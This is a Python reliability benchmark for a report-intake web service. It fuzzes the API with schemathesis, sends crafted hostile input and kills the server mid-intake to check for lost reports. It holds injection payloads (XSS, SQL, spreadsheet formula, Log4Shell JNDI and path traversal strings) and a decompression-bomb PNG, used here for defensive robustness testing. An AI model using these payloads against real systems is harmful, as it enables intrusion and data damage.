"""What hostile input, schemathesis and kill -9 tried against the service, and what held.

Three runs on a fresh database with the 108 demo sites, each counting requests, 5xx answers
and accepted reports that are not stored ("rows lost"):

1. **schemathesis**: every operation of the OpenAPI document, valid and invalid requests made
   from the schema (hypothesis), as the public and as an admin, in process.
2. **hostile input**: the public intake (JSON and multipart) with crafted values in every text
   field (script tags, SQL, NUL and control bytes, right-to-left overrides, formula prefixes,
   100 KB strings), impossible coordinates and dates, and crafted files (a decompression-bomb
   PNG, a truncated MP4, a ZIP named ``.jpg``, an HTML file named ``.png``); then every accepted
   code is looked up in the database.
3. **kill -9**: ``pantau serve`` takes reports from 8 threads and is killed with SIGKILL in the
   middle; every report that got a 201 before the kill must be in the database.

Run: ``.venv/bin/python benchmarks/reliability.py [--examples 25] [--kill-reports 400]``.
Prints one table; record it in ``docs/reliability.md``.
"""

from __future__ import annotations

import argparse
import concurrent.futures as cf
import contextlib
import importlib.util
import io
import json
import os
import secrets
import signal
import struct
import sys
import threading
import time
import uuid
import zlib
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from sqlalchemy import create_engine, text  # noqa: E402

from geo.db import make_engine, session_scope  # noqa: E402
from geo.settings import Settings  # noqa: E402
from geo.tokens import create_token  # noqa: E402


def _bench_api() -> Any:
    # benchmarks/api.py makes the database and starts `pantau serve`; it cannot be imported by
    # name because the repository's `api` package has that name.
    spec = importlib.util.spec_from_file_location("bench_api", ROOT / "benchmarks" / "api.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


BENCH = _bench_api()

#: Values put into every text field of the intake.
HOSTILE_TEXT = [
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE reports; --",
    "1' OR '1'='1",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\u202etxt.exe",
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "🪨" * 5000,
    "x" * 100_000,
    "",
    " ",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "../../etc/passwd",
    "\uffff",
    "null",
]
TEXT_FIELDS = ["description", "location_text", "title", "reporter_name", "external_id"]
BAD_PLACES = [
    {"lat": 91, "lon": 117},
    {"lat": -0.5, "lon": 181},
    {"lat": "NaN", "lon": 117},
    {"lat": "1e309", "lon": 117},
    {"lat": 14.6, "lon": 121.0},  # Manila: outside Indonesia
    {"lat": 0, "lon": 0},
    {"lat": "-0,5", "lon": "117,1"},
]
BAD_DATES = ["2100-01-01T00:00:00Z", "kemarin", "2026-02-30T00:00:00Z", "-1", "9" * 40]


def _png(width: int, height: int) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (90, 60, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def _png_bomb() -> bytes:
    data = bytearray(_png(1, 1))
    ihdr = struct.pack(">II", 50_000, 50_000) + bytes(data[24:29])
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr) & 0xFFFFFFFF)
    return bytes(data)


HOSTILE_FILES = [
    ("bomb.png", _png_bomb(), "image/png"),
    ("truncated.mp4", struct.pack(">I", 24) + b"ftypisom" + bytes(12), "video/mp4"),
    ("archive.jpg", b"PK\x03\x04" + bytes(200), "image/jpeg"),
    ("page.png", b"<html><script>alert(1)</script></html>", "image/png"),
    ("empty.jpg", b"", "image/jpeg"),
    ("ok.png", _png(64, 48), "image/png"),
]

GOOD = {
    "lat": -0.5012,
    "lon": 117.1536,
    "location_source": "device_gps",
    "description": "Ekskavator di tepi sungai",
    "activity": "excavator",
}


@dataclass
class Row:
    """One line of the table."""

    check: str
    requests: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    accepted: list[str] = field(default_factory=list)
    lost: int = 0

    @property
    def server_errors(self) -> int:
        return sum(n for code, n in self.statuses.items() if code >= 500)


def schemathesis_run(app: Any, headers: dict[str, str], examples: int, label: str) -> Row:
    """Every operation, valid and invalid requests from the schema; count statuses."""
    import schemathesis
    from fastapi.testclient import TestClient
    from hypothesis import HealthCheck, given
    from hypothesis import settings as hsettings
    from hypothesis.errors import Unsatisfiable
    from schemathesis.generation.modes import GenerationMode

    row = Row(f"schemathesis, {label}")
    slow = {"POST /patrols/plans": 2, "GET /maps/overview": 3, "GET /maps/briefing.{fmt}": 1}
    with TestClient(app, raise_server_exceptions=False):
        api = schemathesis.openapi.from_asgi("/openapi.json", app)
        for result in api.get_all_operations():
            operation = result.ok()
            for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):

                @hsettings(
                    max_examples=min(examples, slow.get(operation.label, examples)),
                    deadline=None,
                    derandomize=True,
                    database=None,
                    suppress_health_check=list(HealthCheck),
                )
                @given(case=operation.as_strategy(generation_mode=mode))
                def run(case: schemathesis.Case) -> None:
                    response = case.call(headers=headers)
                    row.requests += 1
                    row.statuses[response.status_code] += 1

                with contextlib.suppress(Unsatisfiable):  # no parameters: nothing invalid to make
                    run()
    return row


def hostile_run(client: httpx.Client) -> Row:
    """Crafted values in every field of the public intake; keep the codes of accepted ones."""
    row = Row("hostile input, public intake")

    def send(response: httpx.Response) -> None:
        row.requests += 1
        row.statuses[response.status_code] += 1
        if response.status_code == 201:
            row.accepted.append(response.json()["code"])

    for name in TEXT_FIELDS:
        for value in HOSTILE_TEXT:
            body = {**GOOD, name: value, "external_id": f"H-{uuid.uuid4().hex[:12]}"}
            if name == "external_id":
                body[name] = value
            send(client.post("/reports", json=body))
    for place in BAD_PLACES:
        send(client.post("/reports", content=json.dumps({**GOOD, **place})))
    for when in BAD_DATES:
        send(client.post("/reports", json={**GOOD, "observed_at": when}))
    for name, content, mime in HOSTILE_FILES:
        form = {k: str(v) for k, v in GOOD.items()}
        form["description"] = f"berkas {name} {uuid.uuid4().hex[:8]}"
        send(
            client.post(
                "/reports/with-evidence", data=form, files=[("evidence", (name, content, mime))]
            )
        )
    for code in ("PTM-ZZZZZZ", "' OR 1=1 --", "<script>", "x" * 5000, "%00"):
        send(client.get(f"/reports/status/{code}"))
    return row


def count_stored(url: str, codes: list[str]) -> int:
    engine = create_engine(url)
    with engine.connect() as conn:
        stored = conn.execute(
            text("SELECT count(*) FROM reports WHERE code = ANY(:c)"), {"c": codes}
        ).scalar_one()
    engine.dispose()
    return int(stored)


def kill_run(url: str, env: dict[str, str], reports: int) -> Row:
    """Send reports from 8 threads and SIGKILL the server in the middle."""
    row = Row("kill -9 during intake")
    port = BENCH.free_port()
    proc = BENCH.serve(port, env, 1)
    base = f"http://127.0.0.1:{port}"
    lock = threading.Lock()
    sent = 0

    def one(i: int) -> None:
        nonlocal sent
        body = {**GOOD, "description": f"kill-9 {i} {uuid.uuid4().hex}"}
        try:
            response = httpx.post(f"{base}/reports", json=body, timeout=10)
        except httpx.HTTPError:
            with lock:
                row.requests += 1
                row.statuses[0] += 1  # connection cut by the kill: the sender retries later
            return
        with lock:
            row.requests += 1
            sent += 1
            row.statuses[response.status_code] += 1
            if response.status_code == 201:
                row.accepted.append(response.json()["code"])
            if sent == reports // 2:
                os.kill(proc.pid, signal.SIGKILL)

    with cf.ThreadPoolExecutor(8) as pool:
        list(pool.map(one, range(reports)))
    proc.wait(timeout=10)
    row.lost = len(row.accepted) - count_stored(url, row.accepted)
    return row


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--examples", type=int, default=25, help="Cases per operation and mode.")
    parser.add_argument("--kill-reports", type=int, default=400)
    args = parser.parse_args()

    from api.main import create_app

    url = BENCH.make_database(108)
    data_dir = Path(os.environ.get("TMPDIR", "/tmp")) / f"pantau-reliability-{uuid.uuid4().hex[:6]}"
    secret = secrets.token_urlsafe(48)
    settings = Settings(
        environment="test",
        database={"url": url},
        data_dir=data_dir,
        secret_key=secret,
        api={
            "public_rate_per_minute": 1_000_000,
            "public_burst": 1_000_000,
            "max_solver_budget_s": 1,
        },
    )
    engine = make_engine(url)
    with session_scope(engine) as session:
        _, admin = create_token(session=session, user="reliability", role="admin")
    engine.dispose()
    app = create_app(settings)
    started = time.monotonic()
    rows = [
        schemathesis_run(app, {}, args.examples, "public"),
        schemathesis_run(app, {"Authorization": f"Bearer {admin}"}, args.examples, "admin"),
    ]
    from fastapi.testclient import TestClient

    with TestClient(app, raise_server_exceptions=False) as client:
        rows.append(hostile_run(client))
    for row in rows:
        row.lost = len(row.accepted) - count_stored(url, row.accepted)
    env = {
        **os.environ,
        "PANTAU_ENVIRONMENT": "test",
        "PANTAU_DATABASE_URL": url,
        "PANTAU_SECRET_KEY": secret,
        "PANTAU_DATA_DIR": str(data_dir),
        "PANTAU_API_PUBLIC_RATE_PER_MINUTE": "1000000",
        "PANTAU_API_PUBLIC_BURST": "1000000",
    }
    rows.append(kill_run(url, env, args.kill_reports))
    print(
        f"{'check':34} {'requests':>8} {'2xx':>6} {'4xx':>6} {'5xx':>4} {'cut':>4} "
        f"{'accepted':>8} {'lost':>4}"
    )
    for row in rows:
        two = sum(n for c, n in row.statuses.items() if 200 <= c < 300)
        four = sum(n for c, n in row.statuses.items() if 400 <= c < 500)
        print(
            f"{row.check:34} {row.requests:>8} {two:>6} {four:>6} {row.server_errors:>4} "
            f"{row.statuses[0]:>4} {len(row.accepted):>8} {row.lost:>4}"
        )
    print(f"\nstatus codes: {dict(sum((r.statuses for r in rows), Counter()))}")
    print(f"{time.monotonic() - started:.0f} s, examples per operation and mode: {args.examples}")
    BENCH.drop_database(url)


if __name__ == "__main__":
    main()
